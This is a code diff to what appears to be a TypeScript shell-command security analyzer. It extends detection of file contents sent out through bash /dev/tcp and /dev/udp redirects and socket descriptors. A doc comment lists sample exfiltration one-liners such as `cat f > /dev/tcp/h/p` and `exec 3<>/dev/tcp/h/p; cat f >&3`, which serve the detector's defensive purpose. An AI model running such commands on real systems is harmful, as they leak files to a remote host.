@@ -97,6 +97,29 @@ function stdinFiles(command: ShellCommand): ShellWord[] {
   return command.redirects.flatMap((r) => (r.op === '<' && r.target !== null ? [r.target] : []));
 }
 
+const SOCKET = /^\/dev\/(?:tcp|udp)\//;
+
+function opensSocket(command: ShellCommand): boolean {
+  return command.redirects.some((r) => r.target !== null && SOCKET.test(r.target.text));
+}
+
+/**
+ * Bash itself sends what the command prints: its output goes to /dev/tcp or /dev/udp (`cat f >
+ * /dev/tcp/h/p`), or onto a descriptor past stderr (`>&3`, `>&$fd`) while the line opens a socket
+ * (`exec 3<>/dev/tcp/h/p; cat f >&3`, `{ cat f; } 3>/dev/tcp/h/p >&3`).
+ */
+function printsToSocket(command: ShellCommand, commands: readonly ShellCommand[]): boolean {
+  if (command.redirects.some((r) => r.writes && r.target !== null && SOCKET.test(r.target.text)))
+    return true;
+  // Any command of the line counts: the grammar misreads `exec {fd}<>…` as a command `{fd}`.
+  return (
+    commands.some(opensSocket) &&
+    command.redirects.some(
+      (r) => r.op === '>&' && r.target !== null && !/^[012-]$/.test(r.target.text),
+    )
+  );
+}
+
 /**
  * Words naming files whose bytes a network program sends: what it reads through `<`, and the
  * files read by the commands that feed it, earlier stages of its pipeline and the substitutions
@@ -107,10 +130,7 @@ export function networkFedWords(
   command: ShellCommand,
   commands: readonly ShellCommand[],
 ): ShellWord[] {
-  // `cat f > /dev/tcp/host/port`: bash itself sends what the command prints.
-  const viaDevice = command.redirects.some(
-    (r) => r.writes && r.target !== null && /^\/dev\/(?:tcp|udp)\//.test(r.target.text),
-  );
+  const viaDevice = printsToSocket(command, commands);
   if (!viaDevice && (command.binary === null || !NETWORK_PROGRAMS.has(command.binary))) return [];
   const index = commands.indexOf(command);
   const feeders = commands.filter(
